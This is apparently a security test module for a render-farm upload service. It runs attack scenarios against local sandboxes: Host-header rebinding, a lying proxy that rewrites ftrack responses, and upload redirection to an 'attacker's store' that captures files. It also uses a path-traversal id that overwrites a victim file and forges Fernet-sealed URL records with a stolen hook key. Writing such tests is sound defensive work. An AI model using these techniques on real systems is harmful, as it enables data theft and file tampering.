"""A page elsewhere, a server that lies, and a hook's key that was stolen."""

from __future__ import annotations

import base64
import http.client
import http.server
import json
import os
import re
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit

from tests.attacks.programs.ground import (
    LARGE,
    Ground,
    arrive,
    ask,
    holds,
    new_id,
    waits_for_ftrack,
    with_secret,
)
from tests.farm import BIN, Farm
from tests.sandbox.process import CHECKOUT, free_ports


def _flower(ground: Ground, farm: Farm, **env: str) -> int:
    [port] = free_ports(1)
    config = CHECKOUT / "deploy/flower/flowerconfig.py"
    options = (f"--conf={config}", f"--port={port}", "--address=127.0.0.1")
    settings = {**farm.env, "FLOWER_DB": f"{ground.folder}/state", **env}
    ground.run("flower", BIN / "celery", "-A", "workers", "flower", *options, port=port, **settings)
    return port


def _get(port: int, path: str, **headers: str) -> tuple[int, http.client.HTTPMessage]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    words = {name.replace("_", "-"): value for name, value in headers.items()}
    connection.request("GET", path, headers=words)
    answer = connection.getresponse()
    answer.read()
    return answer.status, answer.headers


def reads_flowers_metrics_without_a_login(ground: Ground) -> bool:
    with ground.farm(0) as farm:
        port = _flower(ground, farm, FLOWER_BASIC_AUTH="operator:a-password")
        return _get(port, "/metrics")[0] == 200


def has_flower_fail_by_a_login(ground: Ground) -> bool:
    with ground.farm(0) as farm:
        port = _flower(ground, farm, FLOWER_BASIC_AUTH="operator:a-password")
        login = base64.b64encode("ö:ü".encode()).decode()
        return _get(port, "/workers", Authorization=f"Basic {login}")[0] == 500


def frames_a_page_of_flowers(ground: Ground) -> bool:
    with ground.farm(0) as farm:
        port = _flower(ground, farm, FLOWER_BASIC_AUTH="operator:a-password")
        login = base64.b64encode(b"operator:a-password").decode()
        _, headers = _get(port, "/workers", Authorization=f"Basic {login}")
        return "X-Frame-Options" not in headers and "Content-Security-Policy" not in headers


def reads_the_exporter_by_a_page_elsewhere(ground: Ground) -> bool:
    with ground.farm(0) as farm:
        return _get(ground.exporter(farm), "/metrics", Host="rebound.example.com")[0] == 200


def uses_flowers_api_by_a_page_elsewhere(ground: Ground) -> bool:
    with ground.farm(0) as farm:
        env = {"FARMHAUL_FLOWER_OPEN": "yes", "FLOWER_UNAUTHENTICATED_API": "true"}
        port = _flower(ground, farm, FLOWER_BASIC_AUTH="", **env)
        return _get(port, "/api/workers", Host="rebound.example.com")[0] == 200


class _Lying(http.server.BaseHTTPRequestHandler):
    """Passes calls on to the stand-in for ftrack, and changes its answers."""

    upstream = ""
    change: Callable[[bytes], bytes] = staticmethod(lambda body: body)
    change_back: Callable[[bytes], bytes] = staticmethod(lambda body: body)

    def _pass_on(self) -> None:
        asked = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        body = type(self).change_back(asked)
        path = type(self).change_back(self.path.encode()).decode()
        address = urlsplit(self.upstream)
        connection = http.client.HTTPConnection(str(address.hostname), address.port, timeout=60)
        mine = {"Host", "Content-Length"}
        words = {name: value for name, value in self.headers.items() if name not in mine}
        connection.request(self.command, path, body, {**words, "Accept-Encoding": "identity"})
        answer = connection.getresponse()
        said = type(self).change(answer.read())
        self.send_response(answer.status)
        for name, value in answer.getheaders():
            if name.lower() not in {"content-length", "transfer-encoding", "connection"}:
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(said)))
        self.end_headers()
        self.wfile.write(said)

    do_GET = do_POST = _pass_on  # noqa: N815 http.server names them

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


class _Store(http.server.BaseHTTPRequestHandler):
    """A store of the attacker's: it takes what it gets, and notes it."""

    got: list[dict[str, str]]

    def do_PUT(self) -> None:
        self.rfile.read(min(int(self.headers.get("Content-Length") or 0), LARGE))
        self.got.append(dict(self.headers.items()))
        self.send_response(200)
        self.send_header("ETag", '"x"')
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@contextmanager
def _serving(kind: type[http.server.BaseHTTPRequestHandler]) -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), kind)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()


@contextmanager
def _lying(
    ground: Ground,
    change: Callable[[bytes], bytes],
    change_back: Callable[[bytes], bytes] = lambda body: body,
) -> Iterator[str]:
    upstream = ground.sandbox.env["FTRACK_SERVER"]
    lies = {"change": staticmethod(change), "change_back": staticmethod(change_back)}
    kind = type("Lying", (_Lying,), {"upstream": upstream, **lies})
    with _serving(kind) as url:
        yield url


def changes_where_a_put_ends_by_a_header(ground: Ground) -> bool:
    got: list[dict[str, str]] = []
    store = type("Store", (_Store,), {"got": got})

    with _serving(store) as there:

        def lie(body: bytes) -> bytes:
            if b'"headers"' not in body:
                return body
            return re.sub(rb'"headers": ?\{', b'"headers": {"Transfer-Encoding": "chunked", ', body)

        def to_us(body: bytes) -> bytes:
            return re.sub(rb'"url": ?"http[^"]*"', f'"url": "{there}/key"'.encode(), lie(body))

        with _lying(ground, to_us) as url, ground.farm(FTRACK_SERVER=url) as farm:
            ask(farm)
            return holds(lambda: any("Transfer-Encoding" in one for one in got), 12)


def has_a_file_sent_with_a_login_in_the_url(ground: Ground) -> bool:
    got: list[dict[str, str]] = []
    store = type("Store", (_Store,), {"got": got})
    with _serving(store) as there:
        place = there.replace("http://", "http://user:pw@")

        def to_us(body: bytes) -> bytes:
            return re.sub(rb'"url": ?"http[^"]*"', f'"url": "{place}/key"'.encode(), body)

        with _lying(ground, to_us) as url, ground.farm(FTRACK_SERVER=url) as farm:
            ask(farm)
            return holds(lambda: got, 12)


def overwrites_a_file_elsewhere_by_the_id_of_a_frame(ground: Ground) -> bool:
    """The id becomes the name of what has arrived so far, next to the file that is fetched."""
    lie, real = b"/../victim/precious", bytearray()

    def change(body: bytes) -> bytes:
        if not real and b"container_id" in body:
            for result in json.loads(body):
                for row in result.get("data") or () if isinstance(result, dict) else ():
                    if row.get("container_id") and not real:
                        real.extend(row["id"].encode())
        return body.replace(bytes(real), lie) if real else body

    def change_back(body: bytes) -> bytes:
        for text in (lie, quote(lie, safe="").encode(), quote(lie).encode()):
            body = body.replace(text, bytes(real)) if real else body
        return body

    with ground.farm() as farm:
        folder = farm.make_file("f.1001.exr", 100).parent
        farm.make_file("f.1002.exr", 100, folder.name)
        version = farm.sandbox.ftrack.version_id
        [row] = farm.enqueue(folder, "--version-id", version, "--name", new_id()[:8])
        farm.wait_located([row["upload_id"]])
        out, victim = ground.folder / "out", ground.folder / "victim"
        for place in (out, victim):
            place.mkdir()
        precious = victim / "precious.part"
        precious.write_bytes(b"precious")
        with _lying(ground, change, change_back) as url:
            ids = (row["component_id"], "--to", str(out))
            farm.cli("fetch", *ids, env={"FTRACK_SERVER": url}, timeout_s=120)
        if not real:
            raise AssertionError("no frame was asked for")
        return not precious.exists() or precious.read_bytes() != b"precious"


def _hooks_key(farm: Farm) -> str:
    """Return the key that hooks have, as one of Fernet: the secret key in the first version."""
    secret = str(farm.env["FARMHAUL_SECRET_KEY"])
    if (CHECKOUT / "tasks/config/hook_key.py").exists():
        env = {**os.environ, "FARMHAUL_SECRET_KEY": secret}
        command = [str(BIN / "farmhaul"), "key", "hook"]
        shown = subprocess.run(command, env=env, capture_output=True, text=True, check=True).stdout
        found = re.findall(r"[0-9a-fA-F]{64}|[\w-]{43}=?", shown)
        text = found[0]
        raw = bytes.fromhex(text) if len(text) == 64 else base64.urlsafe_b64decode(text + "==")
        secret = base64.urlsafe_b64encode(raw[:32]).decode()
    return secret


def _sealed_by_a_hook(farm: Farm, value: Any) -> str:
    from cryptography.fernet import Fernet

    return Fernet(_hooks_key(farm).encode()).encrypt(json.dumps(value).encode()).decode()


def _opened_by_a_hook(farm: Farm, text: str) -> Any:
    """Return what is sealed in a text; None if the key of hooks does not open it."""
    from cryptography.fernet import Fernet, InvalidToken

    try:
        return json.loads(Fernet(_hooks_key(farm).encode()).decrypt(text.encode()))
    except InvalidToken:
        return None


def gives_a_component_a_part_of_its_own_by_a_hooks_key(ground: Ground) -> bool:
    """It reads the URL of a part, sends other bytes there, and notes their ETag."""
    with ground.farm(**with_secret()) as farm:
        farm.sandbox.faults.add("store", "status", 503, method="PUT")
        upload = ask(farm, LARGE, "a.mov")
        key = f"farmhaul:parts:{upload.id}"
        if not holds(lambda: farm.redis.hexists(key, "urls:0"), 40):
            raise AssertionError("no URL was signed")
        found = [value for name, value in farm.redis.hgetall(key).items() if "urls:" in name]
        opened = [urls for text in found if (urls := _opened_by_a_hook(farm, text))]
        farm.sandbox.faults.clear()
        if not opened:
            return False
        waits_for_ftrack(farm, upload)
        of_parts = {
            query["partNumber"][0]: url
            for urls in opened
            for url in (urls.values() if isinstance(urls, dict) else urls)
            if "partNumber" in (query := parse_qs(urlsplit(url).query))
        }
        number = max(of_parts, key=int)
        address = urlsplit(of_parts[number])
        connection = http.client.HTTPConnection(str(address.hostname), address.port, timeout=20)
        connection.request("PUT", f"{address.path}?{address.query}", b"bytes of an attacker")
        answer = connection.getresponse()
        with farm.frozen():
            farm.redis.hset(key, f"etag:{number}", str(answer.headers["ETag"]))
            farm.sandbox.faults.clear()
        arrive(farm, upload, within_s=60)
        store = farm.sandbox.store
        return store.exists(upload.component_id) and (
            b"bytes of an attacker" in store.read(upload.component_id)
        )


def sends_a_file_to_its_own_address_by_a_hooks_key(ground: Ground) -> bool:
    """It writes URLs of its own into the record of a large file."""
    got: list[dict[str, str]] = []
    store = type("Store", (_Store,), {"got": got})
    with _serving(store) as there, ground.farm(**with_secret()) as farm:
        farm.sandbox.faults.add("store", "status", 503, method="PUT")
        upload = ask(farm, LARGE, "secret.mov")
        key = f"farmhaul:parts:{upload.id}"
        if not holds(lambda: farm.redis.hexists(key, "urls:0"), 40):
            raise AssertionError("no URL was signed")
        with farm.frozen():
            for name, sealed in farm.redis.hgetall(key).items():
                if name.startswith("urls:"):
                    # As many as the run has parts, if that can be read.
                    parts = _opened_by_a_hook(farm, sealed) or range(9)
                    urls = [f"{there}/part" for _ in parts]
                    farm.redis.hset(key, name, _sealed_by_a_hook(farm, urls))

        def is_sent() -> bool:
            # The store's faults go on: what has been read of the record before is tried again.
            farm.redis.delete("farmhaul:gate:store")
            return bool(got)

        return holds(is_sent, 60)
